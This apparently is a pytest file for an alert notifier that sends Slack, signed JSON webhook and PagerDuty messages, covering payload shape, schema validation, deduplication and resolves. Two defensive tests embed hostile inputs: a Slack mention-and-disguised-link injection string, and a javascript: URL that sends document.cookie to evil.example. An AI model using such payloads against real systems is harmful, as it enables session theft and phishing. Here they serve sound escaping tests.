"""What each receiver gets, read off real HTTP receivers: Slack Block Kit, the generic JSON
webhook (validated against the shipped schema, signature checked), PagerDuty Events API v2;
and per alert: one notification when it is new, none for re-sends, one when it resolves."""

from __future__ import annotations

import copy
import datetime as dt
import hashlib
import hmac
import json
from pathlib import Path

import jsonschema
import pytest

from faultmaven_runbooks.alerts.channels import SCHEMA_FILE

from .conftest import ROUTING_KEY, SHARED_SECRET, SLACK_TOKEN, alert, fast

BASE = "https://runbooks.example.com"
SCHEMA = json.loads(SCHEMA_FILE.read_text())
VALIDATOR = jsonschema.Draft202012Validator(SCHEMA, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)


def _texts(blocks: list[dict]) -> str:
    return json.dumps(blocks)


def test_slack_gets_block_kit_with_the_alert_the_runbook_and_links(receivers, notifiers):
    slack = receivers()
    notifier = notifiers(fast(notify_slack_webhook_url=slack.url(f"/services/{SLACK_TOKEN}"), notify_link_base_url=BASE))
    notifier.submit(alert())
    assert notifier.wait_idle(10)
    (got,) = slack.requests
    message = got.json()
    blocks = message["blocks"]
    assert [b["type"] for b in blocks] == ["header", "section", "section", "section", "context"]
    assert blocks[0]["text"]["type"] == "plain_text" and "Firing: KubePodCrashLooping" in blocks[0]["text"]["text"]
    assert blocks[1]["text"]["text"] == "Pod payments/api-7d9f is crash looping"
    fields = [f["text"] for f in blocks[1]["fields"]]
    assert fields[:2] == ["*Severity*\ncritical", "*Status*\nfiring"]
    assert "*namespace*\npayments" in fields and "*pod*\napi-7d9f" in fields
    runbook = blocks[2]["text"]["text"]
    assert f"<{BASE}/runbooks/pod-crashloop|Pod CrashLoopBackOff>" in runbook and "score 0.87" in runbook
    assert "*Why:* alert name KubePodCrashLooping" in runbook
    assert blocks[3]["text"]["text"] == f"*Dry run awaiting approval:* <{BASE}/runbooks/executions/exec-0123456789ab|exec-0123456789ab>"
    assert message["text"].startswith("Firing: KubePodCrashLooping (critical)")
    assert got.headers["Content-Type"] == "application/json"


def test_slack_without_a_base_url_has_no_links_and_respects_block_limits(receivers, notifiers):
    slack = receivers()
    notifier = notifiers(fast(notify_slack_webhook_url=slack.url()))
    many = {f"label{n:03d}": "v" * 50 for n in range(300)}
    notifier.submit(alert(alertname="A" * 400, summary="s" * 9000,
                          labels={**many, **{k: "x" * 3000 for k in ("namespace", "pod", "container", "job",
                                                                      "service", "instance", "node", "cluster",
                                                                      "deployment")}}))
    assert notifier.wait_idle(10)
    blocks = slack.requests[0].json()["blocks"]
    assert "<http" not in _texts(blocks)  # no link at all rather than one to a guessed host
    assert "`pod-crashloop`" in blocks[2]["text"]["text"] and "`exec-0123456789ab`" in blocks[3]["text"]["text"]
    # Slack refuses the whole message when one block breaks a limit.
    assert len(blocks[0]["text"]["text"]) <= 150
    assert len(blocks[1]["text"]["text"]) <= 3000
    assert len(blocks[1]["fields"]) <= 10 and all(len(f["text"]) <= 2000 for f in blocks[1]["fields"])


def test_alert_text_cannot_ping_a_channel_or_disguise_a_link_in_slack(receivers, notifiers):
    """An alert's summary is written by whoever writes Prometheus rules or can post to Alertmanager."""
    slack = receivers()
    notifier = notifiers(fast(notify_slack_webhook_url=slack.url(), notify_link_base_url=BASE))
    hostile = "<!channel> urgent: see <https://evil.example/login|the runbook> & <@U024BE7LH>"
    notifier.submit(alert(summary=hostile, labels={"namespace": "<!here>"}, alertname="<!everyone>"))
    assert notifier.wait_idle(10)
    body = slack.requests[0].body.decode()
    for injected in ("<!channel>", "<!here>", "<https://evil.example", "<@U024BE7LH>"):
        assert injected not in body
    message = json.loads(body)
    assert "&lt;!channel&gt; urgent" in message["blocks"][1]["text"]["text"]


def test_the_generic_webhook_payload_follows_the_published_schema_and_is_signed(receivers, notifiers):
    hook = receivers()
    notifier = notifiers(fast(notify_webhook_url=hook.url("/in?token=abc123456789"), notify_link_base_url=BASE,
                              notify_webhook_secret=SHARED_SECRET))
    notifier.submit(alert())
    notifier.submit(alert("resolved", runbook=None, approval_execution_id=None))
    assert notifier.wait_idle(10)
    by_transition = {r.json()["transition"]: r for r in hook.requests}
    assert set(by_transition) == {"new", "resolved"}
    for received in hook.requests:
        VALIDATOR.validate(received.json())
        stamp, signature = received.headers["X-FaultMaven-Timestamp"], received.headers["X-FaultMaven-Signature"]
        expected = hmac.new(SHARED_SECRET.encode(), stamp.encode() + b"." + received.body, hashlib.sha256).hexdigest()
        assert signature == f"sha256={expected}"
        assert received.headers["X-FaultMaven-Event"] == received.json()["event_key"]
    new = by_transition["new"].json()
    assert new["alert"]["status"] == "firing" and new["alert"]["labels"]["pod"] == "api-7d9f"
    assert new["runbook"]["url"] == f"{BASE}/runbooks/pod-crashloop" and new["runbook"]["score"] == 0.87
    assert new["approval"] == {"execution_id": "exec-0123456789ab", "url": f"{BASE}/runbooks/executions/exec-0123456789ab"}
    resolved = by_transition["resolved"].json()
    assert resolved["alert"]["status"] == "resolved" and resolved["runbook"] is None and resolved["approval"] is None
    assert resolved["event_key"] == "3f9c2a1b7d4e5f60:1936775520:resolved"  # 2031-05-17T09:12:00Z


def test_the_schema_refuses_payloads_that_break_the_contract(receivers, notifiers):
    """The schema is not vacuous: a missing field, an unknown one or a wrong type fails it."""
    hook = receivers()
    notifier = notifiers(fast(notify_webhook_url=hook.url()))
    notifier.submit(alert())
    assert notifier.wait_idle(10)
    good = hook.requests[0].json()
    VALIDATOR.validate(good)
    broken = []
    for path, value in ((("alert", "status"), None), (("version",), 2), (("runbook", "score"), 1.5),
                        (("transition",), "updated"), (("sent_at",), "yesterday")):
        bad = copy.deepcopy(good)
        target = bad
        for step in path[:-1]:
            target = target[step]
        if value is None:
            del target[path[-1]]
        else:
            target[path[-1]] = value
        broken.append(bad)
    broken.append({**good, "extra": 1})
    for bad in broken:
        with pytest.raises(jsonschema.ValidationError):
            VALIDATOR.validate(bad)


def test_pagerduty_gets_a_trigger_per_new_alert_none_for_resends_and_a_resolve(receivers, notifiers):
    pager = receivers(default=None)
    notifier = notifiers(fast(notify_pagerduty_routing_key=ROUTING_KEY, notify_pagerduty_url=pager.url("/v2/enqueue"),
                              notify_link_base_url=BASE))
    notifier.submit(alert())
    assert notifier.wait_idle(10)
    for _ in range(3):  # Alertmanager re-sends the group every group_interval
        notifier.submit(alert())
    assert notifier.wait_idle(10)
    notifier.submit(alert("resolved"))
    notifier.submit(alert("resolved"))
    assert notifier.wait_idle(10)
    actions = [r.json()["event_action"] for r in pager.requests]
    assert actions == ["trigger", "resolve"]
    trigger, resolve = (r.json() for r in pager.requests)
    assert trigger["routing_key"] == ROUTING_KEY and trigger["dedup_key"] == "3f9c2a1b7d4e5f60"
    payload = trigger["payload"]
    assert payload["summary"] == "KubePodCrashLooping: Pod payments/api-7d9f is crash looping"
    assert payload["severity"] == "critical" and payload["source"] == "api-7d9f"
    assert payload["group"] == "payments" and payload["component"] == "api" and payload["class"] == "KubePodCrashLooping"
    assert payload["timestamp"] == "2031-05-17T09:12:00+00:00"
    assert payload["custom_details"]["runbook"]["id"] == "pod-crashloop"
    assert {"href": f"{BASE}/runbooks/pod-crashloop", "text": "Runbook: Pod CrashLoopBackOff"} in trigger["links"]
    assert resolve == {"routing_key": ROUTING_KEY, "dedup_key": "3f9c2a1b7d4e5f60", "event_action": "resolve"}


def test_only_web_links_from_the_alert_reach_pagerduty(receivers, notifiers):
    pager = receivers()
    notifier = notifiers(fast(notify_pagerduty_routing_key=ROUTING_KEY, notify_pagerduty_url=pager.url()))
    notifier.submit(alert(generator_url="javascript:fetch('//evil.example/'+document.cookie)"))
    notifier.submit(alert(fingerprint="other", generator_url="https://prometheus.example/graph"))
    assert notifier.wait_idle(10)
    links = {r.json()["dedup_key"]: r.json().get("links", []) for r in pager.requests}
    assert all("javascript" not in link["href"] for link in links["3f9c2a1b7d4e5f60"])
    assert {"href": "https://prometheus.example/graph", "text": "Alert source"} in links["other"]


def test_an_alert_that_fires_again_after_resolving_pages_again(receivers, notifiers):
    """Same fingerprint, new episode (a new startsAt): not a re-send, people must be told."""
    pager = receivers()
    notifier = notifiers(fast(notify_pagerduty_routing_key=ROUTING_KEY, notify_pagerduty_url=pager.url()))
    again = dt.datetime(2031, 5, 17, 11, 0, tzinfo=dt.UTC)
    for event in (alert(), alert("resolved"), alert(starts_at=again), alert(starts_at=again)):
        notifier.submit(event)
        assert notifier.wait_idle(10)
    assert [r.json()["event_action"] for r in pager.requests] == ["trigger", "resolve", "trigger"]
    assert {r.json()["dedup_key"] for r in pager.requests} == {"3f9c2a1b7d4e5f60"}


@pytest.mark.parametrize(("severity", "expected"), [("critical", "critical"), ("warning", "warning"),
                                                    ("info", "info"), ("High", "error"), (None, "error"),
                                                    ("sev-unknown", "error")])
def test_pagerduty_severity_is_one_of_the_four_it_accepts(receivers, notifiers, severity, expected):
    pager = receivers()
    notifier = notifiers(fast(notify_pagerduty_routing_key=ROUTING_KEY, notify_pagerduty_url=pager.url()))
    notifier.submit(alert(severity=severity))
    assert notifier.wait_idle(10)
    payload = pager.requests[0].json()["payload"]
    assert payload["severity"] == expected and len(payload["summary"]) <= 1024


def test_the_readme_documents_the_schema_as_shipped_and_its_example_validates():
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    section = readme.split("### Notifications", 1)[1].split("\n## ", 1)[0]
    example, schema = (json.loads(block.split("```", 1)[0]) for block in section.split("```json\n")[1:3])
    assert schema == SCHEMA
    VALIDATOR.validate(example)
